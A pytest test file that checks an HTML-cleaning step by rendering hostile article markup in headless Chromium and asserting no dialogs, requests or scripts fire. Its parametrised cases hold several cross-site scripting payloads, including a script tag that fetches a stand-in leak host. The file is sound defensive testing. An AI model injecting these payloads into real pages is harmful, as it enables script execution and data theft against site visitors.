"""A fixed sample of hostile payloads as articles, in a real browser; tests.integration.hostile has all."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import islice

import pytest

from tests.browser.screenshots import browser, chromium_path
from tests.integration.hostile import PER_DOCUMENT, Lab, Payload, read_payloads
from tests.unit import factory
from tests.unit.content.page import reference

SAMPLE = 150

pytestmark = pytest.mark.skipif(
    chromium_path() is None, reason="needs Chromium (Debian: apt-get install chromium)"
)


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    with browser() as chromium:
        yield Lab(chromium, tmp_path_factory.mktemp("hostile"))


@pytest.mark.parametrize("part", range(SAMPLE // PER_DOCUMENT))
def test_nothing_happens_when_a_mail_of_hostile_articles_is_opened(lab: Lab, part: int) -> None:
    payloads = read_payloads(reference("hostile-html/dev.jsonl.gz"))
    sample = list(islice(payloads, part, None, len(payloads) // PER_DOCUMENT))[:PER_DOCUMENT]
    assert list(lab.failures(sample)) == []


@pytest.mark.parametrize(
    ("markup", "named"),
    [
        ("<img src=x onerror=alert(1)>", "dialog 1"),
        ("<script>fetch('https://leak.example/')</script>", "request https://leak.example/"),
        ("<svg onload=alert(2)>", "dialog 2"),
        ("<a href='javascript:alert(3)'>x</a>", "href=javascript:alert(3)"),
        ("<blink>x</blink>", "element blink"),
    ],
)
def test_the_lab_sees_what_would_happen_without_cleaning(lab: Lab, markup: str, named: str) -> None:
    document = factory.edition().html.replace("</body>", f"{markup}</body>")
    assert named in lab.trouble_in(document)


def test_a_failing_document_is_halved_until_the_payload_is_found(
    lab: Lab, monkeypatch: pytest.MonkeyPatch
) -> None:
    def trouble(payloads: list[Payload]) -> str:
        return "dialog" if any(payload.id == "7" for payload in payloads) else ""

    monkeypatch.setattr(lab, "trouble", trouble)
    payloads = [Payload(str(number), "") for number in range(20)]
    assert list(lab.failures(payloads)) == [(payloads[7], "dialog")]
